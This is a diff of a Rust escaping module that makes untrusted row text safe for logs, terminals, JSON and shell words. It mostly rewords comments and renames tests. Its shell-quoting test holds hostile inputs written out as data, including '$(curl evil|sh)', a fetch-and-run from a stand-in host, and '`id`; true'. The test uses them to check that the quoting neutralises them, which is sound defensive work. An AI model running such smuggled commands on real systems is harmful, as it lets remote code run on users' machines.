@@ -1,7 +1,8 @@
-//! Text from rows, made safe for log lines and terminals.
+//! Escapes text from rows for log lines and terminals.
 //!
-//! Every writer of the table chooses ids, types, keys and, by way of a handler, errors. Printed as they are, such texts can
-//! begin a line that looks like one of the program's own, or send control sequences to a terminal.
+//! Every writer of the table chooses ids, types, keys and, through a handler, errors. Printed
+//! unescaped, such texts can start a line that looks like one of the program's own, or send control
+//! sequences to a terminal.
 //!
 //! ```
 //! use outbox::escape::{Escaped, is_unsafe};
@@ -15,15 +16,17 @@
 use std::borrow::Cow;
 use std::fmt::{self, Write as _};
 
-/// Whether a character ends a line, controls a terminal, or changes the direction of the text around it: C0 and C1 controls
-/// (CSI, U+009B, among them), line and paragraph separators, bidirectional controls.
+/// Whether a character ends a line, controls a terminal, or changes the direction of the
+/// surrounding text: C0 and C1 controls (including CSI, U+009B), line and paragraph separators,
+/// bidirectional controls.
 pub fn is_unsafe(c: char) -> bool {
     c.is_control()
         || matches!(c,
             '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
-/// Shows a value on one line: unsafe characters as escapes such as `\n` and `\u{1b}`, all others as they are.
+/// Shows a value on one line: unsafe characters as escapes such as `\n` and `\u{1b}`, all others
+/// unchanged.
 #[derive(Clone, Copy, Debug)]
 pub struct Escaped<T>(pub T);
 
@@ -42,7 +45,7 @@ impl fmt::Write for Escaping<'_, '_> {
     }
 }
 
-/// The same for a text of several lines: line feeds and tabs stay.
+/// Escapes a text of several lines: line feeds and tabs stay.
 pub fn escape_lines(text: &str) -> Cow<'_, str> {
     let is_unsafe = |c| is_unsafe(c) && !matches!(c, '\n' | '\t');
     if !text.contains(is_unsafe) {
@@ -53,8 +56,8 @@ pub fn escape_lines(text: &str) -> Cow<'_, str> {
     Cow::Owned(escaped)
 }
 
-/// The same for JSON text, whose strings may hold such characters: they become `\u009b` and the like, which mean the same.
-/// Line feeds and tabs, which stand between values, stay.
+/// Escapes JSON text, whose strings may contain unsafe characters: they become equivalent escapes
+/// such as `\u009b`. Line feeds and tabs between values stay.
 pub fn escape_json(json: &str) -> Cow<'_, str> {
     let is_unsafe = |c| is_unsafe(c) && !matches!(c, '\n' | '\r' | '\t');
     if !json.contains(is_unsafe) {
@@ -71,8 +74,8 @@ pub fn escape_json(json: &str) -> Cow<'_, str> {
     Cow::Owned(escaped)
 }
 
-/// A word for a POSIX shell: as it is if that is safe, in single quotes if not. Unsafe characters are escaped within `$'…'`, which
-/// bash, zsh and ksh read as the same text.
+/// A word for a POSIX shell: unquoted if that is safe, otherwise in single quotes. Unsafe
+/// characters are escaped within `$'…'`, which bash, zsh and ksh read as the same text.
 pub fn shell_word(text: &str) -> Cow<'_, str> {
     let is_plain =
         |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '+' | ',');
@@ -81,7 +84,7 @@ pub fn shell_word(text: &str) -> Cow<'_, str> {
         for c in text.chars() {
             match c {
                 '\'' | '\\' => word.extend(['\\', c]),
-                // The bytes of the character: the same in every locale.
+                // The bytes of the character, which are the same in every locale.
                 c if is_unsafe(c) => {
                     for byte in c.encode_utf8(&mut [0; 4]).bytes() {
                         let _ = write!(word, "\\x{byte:02x}");
@@ -123,7 +126,7 @@ mod tests {
 
     use super::*;
 
-    /// Text as a hostile writer would choose it.
+    /// Text that a hostile writer could choose.
     fn hostile() -> impl Strategy<Value = String> {
         let unsafe_char = prop_oneof![
             0x00_u32..0x20,
@@ -145,7 +148,7 @@ mod tests {
         #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]
 
         #[test]
-        fn what_is_escaped_is_one_safe_line(text in hostile()) {
+        fn escaped_text_is_one_safe_line(text in hostile()) {
             let shown = Escaped(&text).to_string();
             prop_assert!(!shown.contains(is_unsafe), "{shown:?}");
             prop_assert_eq!(shown.lines().count().max(1), 1);
@@ -153,7 +156,7 @@ mod tests {
         }
 
         #[test]
-        fn escaped_json_means_the_same(text in hostile()) {
+        fn escaped_json_has_the_same_value(text in hostile()) {
             let json = serde_json::to_string(&text).unwrap();
             let escaped = escape_json(&json);
             prop_assert!(!escaped.contains(is_unsafe), "{escaped:?}");
@@ -183,8 +186,8 @@ mod tests {
             ["01JD", "$(curl evil|sh)", "it's", "", "-rf", "a\nb\u{9b}c'\\", "`id`; true", "é\u{202e}x"]
         {
             let script = format!("printf %s {}", shell_word(text));
-            let said = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
-            assert_eq!(String::from_utf8(said.stdout).unwrap(), text, "{script}");
+            let output = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
+            assert_eq!(String::from_utf8(output.stdout).unwrap(), text, "{script}");
         }
         assert_eq!(shell_word("01JD3V7Q0Z6W4T0M1S2K8N5R9X"), "01JD3V7Q0Z6W4T0M1S2K8N5R9X");
     }
